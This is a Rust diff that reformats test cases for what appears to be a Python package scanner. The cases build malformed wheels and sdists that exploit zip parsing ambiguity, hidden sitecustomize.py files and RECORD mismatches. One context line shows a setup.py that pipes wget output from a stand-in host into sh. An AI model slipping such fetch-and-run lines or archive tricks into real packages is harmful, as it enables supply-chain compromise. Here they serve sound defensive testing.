@@ -14,63 +14,129 @@ pub(crate) fn add(cases: &mut Cases) {
 fn malformed(cases: &mut Cases) {
     cases
         .technique(81, "archive-reads-two-ways", Data)
-        .case("duplicate-name", wheel().alter_wheel(|entries| {
-            let name = entries[0].local_name.clone();
-            let name = String::from_utf8(name).expect("names are text");
-            entries.push(zip::Entry::file(&name, "import os\nos.system('echo inert')\n"));
-        }))
-        .case("local-name-differs", wheel().alter_wheel(|entries| {
-            entries[1].local_name = b"evil/__init__.py".to_vec();
-        }))
-        .case("local-size-differs", wheel().alter_wheel(|entries| entries[0].local_size = Some(3)))
-        .case("hidden-local-member", wheel().alter_wheel(|entries| {
-            let mut hidden = zip::Entry::file("sitecustomize.py", "print('inert')\n");
-            hidden.central_name = None;
-            entries.insert(1, hidden);
-        }))
-        .case("data-before", wheel().alter_bytes(|archive| [b"#!/bin/sh\necho inert\n".to_vec(), archive].concat()))
-        .case("data-after", wheel().alter_bytes(|archive| [archive, vec![0x41; 700]].concat()))
-        .case("two-archives", wheel().alter_bytes(|archive| {
-            let other = zip::pack(&[zip::Entry::file("other.py", "print('inert')\n")]);
-            [archive, other].concat()
-        }))
-        .case("null-in-name", wheel().alter_wheel(|entries| {
-            let mut odd = zip::Entry::file("good.py", "print('inert')\n");
-            odd.local_name = b"good.py\0.txt".to_vec();
-            odd.central_name = Some(odd.local_name.clone());
-            entries.push(odd);
-        }))
-        .case("unicode-path-field", wheel().alter_wheel(|entries| {
-            let mut crc = flate2::Crc::new();
-            crc.update(b"notes.txt");
-            let mut odd = zip::Entry::file("notes.txt", "print('inert')\n");
-            odd.extra = [&[0x75, 0x70, 12, 0, 1][..], &crc.sum().to_le_bytes(), b"evil.py"].concat();
-            entries.push(odd);
-        }))
-        .case("case-clash", wheel().alter_wheel(|entries| {
-            entries.push(zip::Entry::file("lib/Core.py", "X = 1\n"));
-            entries.push(zip::Entry::file("lib/core.py", "import os\nos.system('echo inert')\n"));
-        }))
-        .case("sdist-duplicate", sdist().alter_sdist(|entries| {
-            let name = entries[1].name.clone();
-            entries.push(tar::Entry::file(name, "import os; os.system('echo inert')\n"));
-        }))
-        .case("encrypted", wheel().alter_wheel(|entries| entries[0].flags = 1));
+        .case(
+            "duplicate-name",
+            wheel().alter_wheel(|entries| {
+                let name = entries[0].local_name.clone();
+                let name = String::from_utf8(name).expect("names are text");
+                entries.push(zip::Entry::file(
+                    &name,
+                    "import os\nos.system('echo inert')\n",
+                ));
+            }),
+        )
+        .case(
+            "local-name-differs",
+            wheel().alter_wheel(|entries| {
+                entries[1].local_name = b"evil/__init__.py".to_vec();
+            }),
+        )
+        .case(
+            "local-size-differs",
+            wheel().alter_wheel(|entries| entries[0].local_size = Some(3)),
+        )
+        .case(
+            "hidden-local-member",
+            wheel().alter_wheel(|entries| {
+                let mut hidden = zip::Entry::file("sitecustomize.py", "print('inert')\n");
+                hidden.central_name = None;
+                entries.insert(1, hidden);
+            }),
+        )
+        .case(
+            "data-before",
+            wheel().alter_bytes(|archive| [b"#!/bin/sh\necho inert\n".to_vec(), archive].concat()),
+        )
+        .case(
+            "data-after",
+            wheel().alter_bytes(|archive| [archive, vec![0x41; 700]].concat()),
+        )
+        .case(
+            "two-archives",
+            wheel().alter_bytes(|archive| {
+                let other = zip::pack(&[zip::Entry::file("other.py", "print('inert')\n")]);
+                [archive, other].concat()
+            }),
+        )
+        .case(
+            "null-in-name",
+            wheel().alter_wheel(|entries| {
+                let mut odd = zip::Entry::file("good.py", "print('inert')\n");
+                odd.local_name = b"good.py\0.txt".to_vec();
+                odd.central_name = Some(odd.local_name.clone());
+                entries.push(odd);
+            }),
+        )
+        .case(
+            "unicode-path-field",
+            wheel().alter_wheel(|entries| {
+                let mut crc = flate2::Crc::new();
+                crc.update(b"notes.txt");
+                let mut odd = zip::Entry::file("notes.txt", "print('inert')\n");
+                odd.extra = [
+                    &[0x75, 0x70, 12, 0, 1][..],
+                    &crc.sum().to_le_bytes(),
+                    b"evil.py",
+                ]
+                .concat();
+                entries.push(odd);
+            }),
+        )
+        .case(
+            "case-clash",
+            wheel().alter_wheel(|entries| {
+                entries.push(zip::Entry::file("lib/Core.py", "X = 1\n"));
+                entries.push(zip::Entry::file(
+                    "lib/core.py",
+                    "import os\nos.system('echo inert')\n",
+                ));
+            }),
+        )
+        .case(
+            "sdist-duplicate",
+            sdist().alter_sdist(|entries| {
+                let name = entries[1].name.clone();
+                entries.push(tar::Entry::file(
+                    name,
+                    "import os; os.system('echo inert')\n",
+                ));
+            }),
+        )
+        .case(
+            "encrypted",
+            wheel().alter_wheel(|entries| entries[0].flags = 1),
+        );
 }
 
 fn record(cases: &mut Cases) {
     cases
         .technique(82, "not-as-recorded", Data)
-        .case("absent", wheel().alter_wheel(|entries| {
-            entries.insert(0, zip::Entry::file("sitecustomize.py", "print('inert')\n"));
-        }))
-        .case("mismatch", wheel().alter_wheel(|entries| {
-            entries[0].bytes.extend(b"\nimport os; os.system('echo inert')\n");
-        }))
-        .case("no-record", wheel().alter_wheel(|entries| drop(entries.pop())))
-        .case("recorded-but-missing", wheel().file("«pkg»/extra.py", "X = 1\n").alter_wheel(|entries| {
-            entries.retain(|entry| !entry.local_name.ends_with(b"extra.py"));
-        }));
+        .case(
+            "absent",
+            wheel().alter_wheel(|entries| {
+                entries.insert(0, zip::Entry::file("sitecustomize.py", "print('inert')\n"));
+            }),
+        )
+        .case(
+            "mismatch",
+            wheel().alter_wheel(|entries| {
+                entries[0]
+                    .bytes
+                    .extend(b"\nimport os; os.system('echo inert')\n");
+            }),
+        )
+        .case(
+            "no-record",
+            wheel().alter_wheel(|entries| drop(entries.pop())),
+        )
+        .case(
+            "recorded-but-missing",
+            wheel()
+                .file("«pkg»/extra.py", "X = 1\n")
+                .alter_wheel(|entries| {
+                    entries.retain(|entry| !entry.local_name.ends_with(b"extra.py"));
+                }),
+        );
 }
 
 fn paths(cases: &mut Cases) {
@@ -123,9 +189,5 @@ fn disagreements(cases: &mut Cases) {
         .case("only-in-wheel", init(BAD).beside(sdist().file("«pkg»/__init__.py", GOOD).file("«pkg»/text.py", "def shorten(t): return t\n")))
         .case("only-in-sdist", sdist().file("«pkg»/__init__.py", BAD).beside(init(GOOD)))
         .case("setup-only-in-sdist", sdist().file("setup.py", "from setuptools import setup, find_packages\nimport os\nos.system('wget -qO- http://192.0.2.8/s | sh')\n«setup»\n").beside(init(GOOD)))
-        .case("metadata-names-another", wheel().alter_wheel(|entries| {
-            for entry in entries.iter_mut().filter(|entry| entry.local_name.ends_with(b"METADATA")) {
-                entry.bytes = b"Metadata-Version: 2.1\nName: requests\nVersion: 2.32.3\n".to_vec();
-            }
-        }));
+        .case("metadata-names-another", wheel().claims("Metadata-Version: 2.1\nName: requests\nVersion: 2.32.3\n"));
 }
